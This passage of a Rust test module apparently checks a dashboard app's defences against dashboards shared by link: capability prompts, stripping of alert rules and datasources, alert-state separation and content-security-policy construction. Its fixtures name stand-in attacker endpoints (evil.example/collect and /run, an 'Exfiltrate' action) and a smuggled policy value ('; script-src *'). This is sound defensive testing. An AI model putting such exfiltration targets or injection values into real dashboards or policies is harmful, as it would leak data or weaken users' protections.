        let mut answers = SortedMap::default();
        assert_eq!(tab_answer(&keys, &answers), None);
        // "Open without these".
        for key in &keys {
            answers.insert(key.clone(), false);
        }
        assert_eq!(tab_answer(&keys, &answers), Some(false));
        // Edited as shown, then saved: only the link's own parameters are
        // left to ask about, and the viewer already answered for them.
        let (stripped, _) = without_unaccepted(hostile());
        for provenance in [Provenance::Link, Provenance::Saved] {
            let (asks, keys) = ask(provenance, &stripped);
            let described: Vec<String> = asks.iter().map(Capability::describe).collect();
            assert_eq!(asks.len(), 2, "{described:#?}");
            assert_eq!(tab_answer(&keys, &answers), Some(false), "{described:#?}");
        }
        // The same parameters on another dashboard, or other parameters, are asked again.
        let mut other = stripped.clone();
        other.id = "another".into();
        assert_eq!(
            tab_answer(&ask(Provenance::Saved, &other).1, &answers),
            None
        );
        let asks = review(
            Provenance::Saved,
            &stripped,
            None,
            Some("2s"),
            &ConfirmedOrigins::default(),
            &page(),
        );
        let keys = answer_keys(&asks, &stripped, None, Some("2s"));
        assert_eq!(tab_answer(&keys, &answers), None);
        // A dashboard changed from outside (another rule) is asked about again,
        // and its answer is accepted only when every part was accepted.
        let mut changed = hostile();
        changed.alerts[0].expr = "vector(1)".into();
        let (_, keys) = ask(Provenance::Link, &changed);
        assert_eq!(tab_answer(&keys, &answers), None);
        for key in &keys {
            answers.insert(key.clone(), true);
        }
        assert_eq!(tab_answer(&keys, &answers), Some(true));
        answers.insert(keys[0].clone(), false);
        assert_eq!(tab_answer(&keys, &answers), Some(false));
    }

    #[test]
    fn another_tenant_is_asked_about_and_dropped_until_accepted() {
        let text = HOSTILE.replace(
            r#""datasource": "https://evil.example/prom","#,
            r#""datasourceOptions": {"tenant": "payments", "engine": "mimir"},"#,
        );
        let dashboard = Dashboard::from_json(&text).unwrap();
        let asks = review(
            Provenance::Link,
            &dashboard,
            None,
            None,
            &ConfirmedOrigins::default(),
            &page(),
        );
        assert!(asks.iter().any(|a| a.describe()
            == "read the data of tenant \"payments\" (sent as X-Scope-OrgID with every request)"));
        let shown = inert(&dashboard);
        assert_eq!(shown.datasource_options.tenant, None);
        assert_eq!(
            shown.datasource_options.engine,
            Some(crate::query::engine::Engine::Mimir),
            "the engine changes no data and stays"
        );
        let trusted = review(
            Provenance::Shipped,
            &dashboard,
            None,
            None,
            &ConfirmedOrigins::default(),
            &page(),
        );
        assert!(!trusted
            .iter()
            .any(|a| matches!(a, Capability::Tenant { .. })));
    }

    #[test]
    fn accepting_confirms_origins_and_a_trusted_dashboard_asks_nothing_more() {
        let mut confirmed = ConfirmedOrigins::default();
        let asks = review(
            Provenance::Link,
            &hostile(),
            None,
            None,
            &confirmed,
            &page(),
        );
        confirm(&mut confirmed, &asks);
        assert!(confirmed.permits_notification("https://evil.example/other-path"));
        assert!(confirmed.permits_notification("http://am.example:9093/api/v2/alerts"));
        assert!(!confirmed.permits_notification("https://evil.example:444/collect"));
        let saved = review(
            Provenance::Saved,
            &hostile(),
            None,
            None,
            &confirmed,
            &page(),
        );
        assert_eq!(saved, vec![]);
        let round_trip: ConfirmedOrigins =
            crate::foundation::json::decode(&confirmed.to_json().to_string()).unwrap();
        assert_eq!(round_trip, confirmed);
    }

    #[test]
    fn trusted_dashboards_still_ask_for_unconfirmed_targets_and_link_datasources() {
        let confirmed = ConfirmedOrigins::default();
        let asks = review(
            Provenance::Saved,
            &hostile(),
            None,
            Some("1s"),
            &confirmed,
            &page(),
        );
        // Two notification targets, the remediation target and the link's refresh.
        assert_eq!(asks.len(), 4, "{asks:?}");
        let other = Datasource::parse("http://localhost:9090").unwrap();
        let asks = review(
            Provenance::Shipped,
            &Dashboard::from_json(
                &HOSTILE
                    .replace("\"notify\"", "\"x\"")
                    .replace("\"actions\"", "\"y\""),
            )
            .unwrap(),
            Some(&other),
            None,
            &confirmed,
            &page(),
        );
        assert!(
            matches!(&asks[..], [Capability::Datasource { origin, .. }] if origin == "http://localhost:9090")
        );
        // The page's own host on any port, and the default, need no confirmation.
        for same in ["http://127.0.0.1:9090", "http://127.0.0.1:41234/prom"] {
            assert!(
                confirmed.permits_datasource(&page(), &Datasource::parse(same).unwrap()),
                "{same}"
            );
        }
    }

    #[test]
    fn an_inert_dashboard_draws_the_same_and_does_nothing_else() {
        let inert = inert(&hostile());
        assert_eq!(inert.panels, hostile().panels);
        assert!(inert.alerts.is_empty() && inert.notify.is_empty() && inert.datasource.is_none());
        assert_eq!(inert.refresh, "5s");
        assert_eq!(
            review(
                Provenance::Link,
                &inert,
                None,
                None,
                &ConfirmedOrigins::default(),
                &page()
            ),
            vec![]
        );
        // What it left out, in words; nothing once it is inert.
        let said = left_out_when_inert(&hostile()).join(", ");
        assert!(said.contains("alert rule"), "{said}");
        assert!(said.contains("notification target"), "{said}");
        assert!(said.contains("its datasource"), "{said}");
        assert!(said.contains("refresh faster than 5 s"), "{said}");
        assert!(left_out_when_inert(&inert).is_empty());
        assert_eq!(
            without_unaccepted(hostile()),
            (inert.clone(), left_out_when_inert(&hostile()))
        );
        assert_eq!(
            without_unaccepted(inert.clone()),
            (inert.clone(), Vec::<String>::new())
        );
        assert_eq!(bounded_refresh("1s"), "5s");
        assert_eq!(bounded_refresh("5s"), "5s");
        assert_eq!(bounded_refresh("30s"), "30s");
        assert_eq!(bounded_refresh("off"), "off");
    }

    #[test]
    fn an_actions_query_does_not_hide_its_origin() {
        assert_eq!(
            origin_of("http://deployer.internal:8080/rollback?instance=app-2").as_deref(),
            Some("http://deployer.internal:8080")
        );
        assert!(reachable_without_reload(&page(), "http://127.0.0.1:8001"));
        assert!(!reachable_without_reload(
            &page(),
            "http://deployer.internal:8080"
        ));
    }

    #[test]
    fn only_shipped_and_saved_namespaces_are_trusted() {
        let board = hostile();
        assert!(namespace_is_trusted(&alert_state_namespace(
            Provenance::Saved,
            &board
        )));
        assert!(namespace_is_trusted(&alert_state_namespace(
            Provenance::Shipped,
            &board
        )));
        assert!(!namespace_is_trusted(&alert_state_namespace(
            Provenance::Link,
            &board
        )));
        assert!(!namespace_is_trusted(&alert_state_namespace(
            Provenance::Import,
            &board
        )));
    }

    #[test]
    fn a_link_cannot_share_a_saved_dashboards_alert_state() {
        let dashboard = hostile();
        let saved = alert_state_namespace(Provenance::Saved, &dashboard);
        let linked = alert_state_namespace(Provenance::Link, &dashboard);
        assert_ne!(saved, linked);
        assert!(saved.starts_with("saved.service-health."));
        let mut other_rules = dashboard.clone();
        other_rules.alerts[0].expr = "down".into();
        assert_ne!(
            alert_state_namespace(Provenance::Saved, &other_rules),
            saved
        );
        assert_eq!(fingerprint(""), "cbf29ce484222325");
    }

    /// A saved dashboard whose rule notifies and acts by itself, read from the page's default.
    fn saved_with_outbound_rules() -> Dashboard {
        let mut dashboard = hostile();
        dashboard.datasource = None;
        dashboard.refresh = "30s".into();
        dashboard.alerts[0].interval = Some("30s".into());
        dashboard
    }

    #[test]
    fn rules_away_from_their_home_ask_where_they_would_reach_outside() {
        let dashboard = saved_with_outbound_rules();
        let default = page().default_datasource;
        let staging = Datasource::parse("http://127.0.0.1:9092").unwrap();
        let mut homes = AlertHomes::default();
        // At first their home is the page's default (no link needed to reach it).
        assert_eq!(
            homes.away(Provenance::Saved, &dashboard, &default, &default),
            None
        );
        let away = homes.away(Provenance::Saved, &dashboard, &staging, &default);
        assert_eq!(away, Some(&staging));
        let home = homes.home(Provenance::Saved, &dashboard, &default);
        let Some(ask) = alerting_away_ask(&dashboard, away, &home) else {
            panic!("asked nothing");
        };
        let Capability::AlertsOnOtherData {
            address,
            targets,
            automatic,
            ..
        } = &ask
        else {
            panic!("{ask:?}");
        };
        assert_eq!(address, "http://127.0.0.1:9092");
        assert_eq!(targets.len(), 2);
        assert_eq!(automatic, &["Exfiltrate".to_string()]);
        assert!(
            ask.describe().contains("on the data of http://127.0.0.1:9092 from now on, instead of http://127.0.0.1:9090"),
            "{}",
            ask.describe()
        );
        // Accepted (or saved there), the home moves: asked once, not in every tab.
        assert!(homes.move_home(Provenance::Saved, &dashboard.id, &staging));
        assert!(!homes.move_home(Provenance::Saved, &dashboard.id, &staging));
        assert_eq!(
            homes.away(Provenance::Saved, &dashboard, &staging, &default),
            None
        );
        assert_eq!(
            homes.away(Provenance::Saved, &dashboard, &default, &default),
            Some(&default)
        );
        assert!(homes.forget(Provenance::Saved, &dashboard.id));
        // Rules that only show their state on the page: nothing reaches outside.
        let mut quiet = dashboard.clone();
        quiet.notify = Default::default();
        quiet.alerts[0].actions[0].automatic = false;
        assert_eq!(alerting_away_ask(&quiet, away, &home), None);
        // A dashboard naming its datasource is at home there.
        let mut named = dashboard.clone();
        named.datasource = Some("http://127.0.0.1:9092".into());
        assert_eq!(
            homes.away(Provenance::Saved, &named, &staging, &default),
            None
        );
        assert_eq!(
            homes.away(Provenance::Saved, &named, &default, &default),
            Some(&default)
        );
        // A dashboard from outside has no home: its banner asks about everything.
        assert!(!homes.move_home(Provenance::Link, &dashboard.id, &staging));
        assert_eq!(
            homes.away(Provenance::Link, &dashboard, &staging, &default),
            None
        );
        // Answered apart from the link's other asks, whatever its refresh.
        let asks = vec![ask];
        let elsewhere = Datasource::parse("http://127.0.0.1:9093").unwrap();
        let elsewhere_ask = alerting_away_ask(&dashboard, Some(&elsewhere), &home).unwrap();
        assert_eq!(
            answer_keys(&asks, &dashboard, Some(&staging), None),
            answer_keys(&asks, &dashboard, Some(&staging), Some("10s"))
        );
        assert_ne!(
            answer_keys(&asks, &dashboard, Some(&staging), None),
            answer_keys(&[elsewhere_ask], &dashboard, Some(&elsewhere), None)
        );
    }

    #[test]
    fn a_dashboard_from_outside_names_every_target_even_on_a_confirmed_origin() {
        let mut confirmed = ConfirmedOrigins::default();
        confirmed.notification_targets.extend([
            "https://evil.example".to_string(),
            "http://am.example:9093".to_string(),
        ]);
        confirmed
            .datasources
            .insert("https://evil.example".to_string());
        let asks = review(
            Provenance::Link,
            &hostile(),
            None,
            None,
            &confirmed,
            &page(),
        );
        let named: Vec<String> = asks
            .iter()
            .filter_map(|a| match a {
                Capability::Notify { address, .. } | Capability::Remediate { address, .. } => {
                    Some(address.clone())
                }
                _ => None,
            })
            .collect();
        assert_eq!(
            named,
            [
                "http://am.example:9093",
                "https://evil.example/collect",
                "https://evil.example/run"
            ]
        );
        // Saved here, a confirmed target is the viewer's own.
        assert!(!review(
            Provenance::Saved,
            &saved_with_outbound_rules(),
            None,
            None,
            &confirmed,
            &page()
        )
        .iter()
        .any(|a| matches!(a, Capability::Notify { .. } | Capability::Remediate { .. })));
    }

    #[test]
    fn rules_run_on_another_server_keep_their_state_apart() {
        let dashboard = saved_with_outbound_rules();
        let own = alert_state_namespace_on(Provenance::Saved, &dashboard, None);
        assert_eq!(own, alert_state_namespace(Provenance::Saved, &dashboard));
        let other = Datasource::parse("http://127.0.0.1:9092").unwrap();
        let elsewhere = alert_state_namespace_on(Provenance::Saved, &dashboard, Some(&other));
        assert!(elsewhere.starts_with("saved@"), "{elsewhere}");
        assert_ne!(evaluation_lock_name(&elsewhere), evaluation_lock_name(&own));
        // The view away never prunes the state at home; the view at home
        // prunes the state away (of any server), unless a tab evaluates it.
        let family = |ns: &str| ns.rsplit_once('.').unwrap().0.to_string();
        assert!(!earlier_rules_state_removable(
            &own,
            &elsewhere,
            &family(&elsewhere),
            None
        ));
        assert!(earlier_rules_state_removable(
            &elsewhere,
            &own,
            &family(&own),
            None
        ));
        let held: SortedSet<String> = [evaluation_lock_name(&elsewhere)].into_iter().collect();
        assert!(!earlier_rules_state_removable(
            &elsewhere,
            &own,
            &family(&own),
            Some(&held)
        ));
        let mut another = hostile();
        another.id = "another".into();
        let other_dashboard = alert_state_namespace_on(Provenance::Saved, &another, Some(&other));
        assert!(!earlier_rules_state_removable(
            &other_dashboard,
            &own,
            &family(&own),
            None
        ));
        assert!(!earlier_rules_state_removable(
            "saved@nothex.service-health.0123456789abcdef",
            &own,
            &family(&own),
            None
        ));
        assert!(is_namespace_of(&elsewhere, &family(&elsewhere)));
        // Accepted where it reaches outside, so its actions may run.
        assert!(namespace_is_trusted(&elsewhere));
        assert!(!namespace_is_trusted(&alert_state_namespace_on(
            Provenance::Link,
            &dashboard,
            Some(&other)
        )));
        // Another server, another family.
        let third = Datasource::parse("http://127.0.0.1:9093").unwrap();
        assert_ne!(
            family(&elsewhere),
            family(&alert_state_namespace_on(
                Provenance::Saved,
                &dashboard,
                Some(&third)
            ))
        );
    }

    #[test]
    fn hosts_a_policy_cannot_name_are_blocked_unless_they_are_the_page() {
        for nameable in [
            "http://prom:9090",
            "https://prom.example",
            "http://127.0.0.1:9090",
            "http://my-prom.internal:80",
        ] {
            assert!(policy_can_name(nameable), "{nameable}");
            assert!(!blocked_by_connect_policy(
                &format!("{nameable}/api/v1/query"),
                "http://127.0.0.1:8080"
            ));
        }
        for unnameable in [
            "http://[::1]:9090",
            "http://my_prom:9090",
            "http://prom.:9090",
        ] {
            assert!(!policy_can_name(unnameable), "{unnameable}");
            assert!(blocked_by_connect_policy(
                &format!("{unnameable}/api/v1/query"),
                "http://127.0.0.1:8080"
            ));
            // Served from that very address, 'self' covers it.
            assert!(!blocked_by_connect_policy(
                &format!("{unnameable}/api/v1/query"),
                unnameable
            ));
        }
        // Another port of an unnameable page host is not covered by 'self'.
        assert!(blocked_by_connect_policy(
            "http://[::1]:9093/api/v2/alerts",
            "http://[::1]:9090"
        ));
        // Not an address the page would contact at all: the browser decides.
        assert!(!blocked_by_connect_policy(
            "not a url",
            "http://127.0.0.1:8080"
        ));
    }

    #[test]
    fn the_policy_leaves_out_origins_it_cannot_name() {
        let mut confirmed = ConfirmedOrigins::default();
        confirmed.datasources.insert("http://[::1]:9090".into());
        confirmed.datasources.insert("http://my_prom:9090".into());
        confirmed
            .notification_targets
            .insert("https://hooks.example".into());
        let page = PageContext {
            page_origin: "http://my_host:8080".into(),
            ..page()
        };
        assert_eq!(
            connect_policy(&confirmed, &page),
            "connect-src 'self' http://127.0.0.1:9090 https://hooks.example"
        );
    }

    #[test]
    fn the_policy_lists_only_plain_origins() {
        let mut confirmed = ConfirmedOrigins::default();
        confirmed.datasources.insert("https://prom.example".into());
        confirmed
            .notification_targets
            .insert("https://hooks.example; script-src *".into());
        for widening in [
            "*",
            "https:",
            "data:",
            "'unsafe-inline'",
            "https://*.example",
            "https://a.example/path",
        ] {
            confirmed.datasources.insert(widening.into());
        }
        assert_eq!(
            connect_policy(&confirmed, &page()),
            "connect-src 'self' http://127.0.0.1:* http://127.0.0.1:9090 https://prom.example"
        );
    }
}
